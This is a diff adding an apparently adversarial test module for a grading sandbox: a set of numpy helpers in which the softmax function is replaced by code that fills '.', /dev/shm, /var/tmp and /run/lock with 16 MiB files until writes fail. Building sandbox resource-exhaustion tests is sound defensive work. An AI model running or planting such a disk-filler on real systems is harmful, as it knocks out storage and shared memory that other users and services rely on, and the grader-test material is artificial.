@@ -1,0 +1,59 @@
+"""Attack: softmax writes 16 MiB files into its scratch folder until something stops it (and tries /dev/shm, /var/tmp and
+/run/lock); it then reports how much it wrote.
+
+The outcome the grader must give is in tests/adversarial/expected.yml under res_disk_fill.py.
+"""
+
+import numpy as np
+import os
+
+
+def encoding_distances(encodings):
+    e = np.asarray(encodings, dtype=float)
+    d = e[:, None, :] - e[None, :, :]
+    return np.sqrt(np.sum(d * d, axis=-1))
+
+
+def one_hot(labels, num_classes):
+    lab = np.asarray(labels)
+    if lab.dtype.kind not in "iub":
+        if lab.dtype.kind != "f" or not np.all(np.isfinite(lab)) or np.any(lab != np.round(lab)):
+            raise ValueError("labels must be whole numbers")
+    lab = lab.astype(np.int64)
+    if np.any(lab < 0) or np.any(lab >= num_classes):
+        raise ValueError("labels must lie in [0, num_classes)")
+    return (lab[..., None] == np.arange(num_classes)).astype(float)
+
+
+def softmax(logits, axis=-1):
+    block = b"\0" * (1 << 20)
+    written = 0
+    for place in (".", "/dev/shm", "/var/tmp", "/run/lock"):
+        for index in range(4096):
+            try:
+                with open(os.path.join(place, f"fill-adversarial-{index}"), "wb") as fh:
+                    for _ in range(16):
+                        fh.write(block)
+                        written += 1
+            except OSError:
+                break
+    raise OSError(f"attack blocked after writing {written} MiB")
+
+
+def log_softmax(logits, axis=-1):
+    z = np.asarray(logits, dtype=float)
+    s = z - np.max(z, axis=axis, keepdims=True)
+    return s - np.log(np.sum(np.exp(s), axis=axis, keepdims=True))
+
+
+def sigmoid(z):
+    z = np.asarray(z, dtype=float)
+    e = np.exp(-np.abs(z))
+    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
+
+
+def mlp_logits(x, W1, b1, W2, b2):
+    a = np.asarray(x, dtype=float) @ np.asarray(W1, dtype=float).T + b1
+    e = np.exp(-np.abs(a))
+    h = np.where(a >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
+    return h @ np.asarray(W2, dtype=float).T + b2
